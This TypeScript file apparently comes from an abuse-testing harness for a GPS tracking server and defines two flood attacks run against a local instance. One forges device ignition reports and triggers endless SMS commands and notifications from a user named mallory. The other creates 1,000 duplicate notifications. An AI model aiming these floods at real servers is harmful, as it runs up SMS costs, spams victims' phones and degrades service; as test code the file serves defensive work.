import { logIn } from '../../rest.ts'
import { type Attack, inTurns } from '../attack.ts'
import { cookieOf, request } from '../request.ts'
import type { Scene } from '../scene.ts'

const urlOf = ({ httpPort }: Scene): string => `http://127.0.0.1:${httpPort}`

/** Everything that sends a text message, as often as it can be requested. */
export const textFlood: Attack = {
  name: 'text flood',
  what: 'notifications with priority, tests and commands by SMS, eight at a time',
  async prepare(scene) {
    const owner = await logIn(urlOf(scene), scene.owner)
    const mallory = await owner.users.get({ params: scene.mallory })
    await owner.users.update({ params: mallory, body: { ...mallory, phone: '11 98888-7777' } })
    const device = await owner.devices.get({ params: scene.victim })
    await owner.devices.update({ params: device, body: { ...device, phone: '11 97777-6666' } })
    const own = await logIn(urlOf(scene), scene.mallory)
    const sms = { notificators: 'sms', always: true, attributes: { priority: true } }
    for (const type of ['ignitionOn', 'ignitionOff'])
      await own.notifications.create({ body: { type, ...sms } as never })
  },
  async run(scene, signal) {
    const before = scene.texts.count
    const headers = { cookie: await cookieOf(scene.httpPort, scene.mallory), 'content-type': 'application/json' }
    const post = (path: string, body: object) =>
      request({ port: scene.httpPort, method: 'POST', path, headers, body: JSON.stringify(body) })
    const command = { deviceId: scene.victim.id, type: 'custom', attributes: { data: 'WHERE#' }, textChannel: true }
    await inTurns({ atOnce: 8, max: Number.POSITIVE_INFINITY, signal }, async (at) => {
      if (at % 4 === 0) await post('/api/commands/send', command)
      else if (at % 4 === 1) await post('/api/notifications/test/sms', {})
      else await switchEngine(scene, at)
    })
    return `${scene.texts.count - before} text messages left`
  },
}

/** Many notifications of the same event. */
export const equalNotifications: Attack = {
  name: 'equal notifications',
  what: '1,000 notifications of one type, with events as fast as they are taken',
  async prepare(scene) {
    const headers = { cookie: await cookieOf(scene.httpPort, scene.mallory), 'content-type': 'application/json' }
    const max = 1000
    await inTurns({ atOnce: 4, max, signal: AbortSignal.timeout(600_000) }, (at) => {
      const wanted = {
        type: 'ignitionOn',
        notificators: 'web,mail,sms',
        always: true,
        attributes: { repeatMinutes: at },
      }
      const body = JSON.stringify(wanted)
      return request({ port: scene.httpPort, method: 'POST', path: '/api/notifications', headers, body })
    })
  },
  async run(scene, signal) {
    await inTurns({ atOnce: 4, max: Number.POSITIVE_INFINITY, signal }, (at) => switchEngine(scene, at))
  },
}

let fixes = 0

/** A report of the unit, which makes an event. */
function switchEngine({ devicePorts: { osmand: port }, victim }: Scene, at: number) {
  fixes += 1
  const time = Math.floor(Date.now() / 1000) - 1_000_000 + fixes
  return request({ port, path: `/?id=${victim.uniqueId}&lat=1&lon=1&timestamp=${time}&ignition=${at % 2 === 0}` })
}
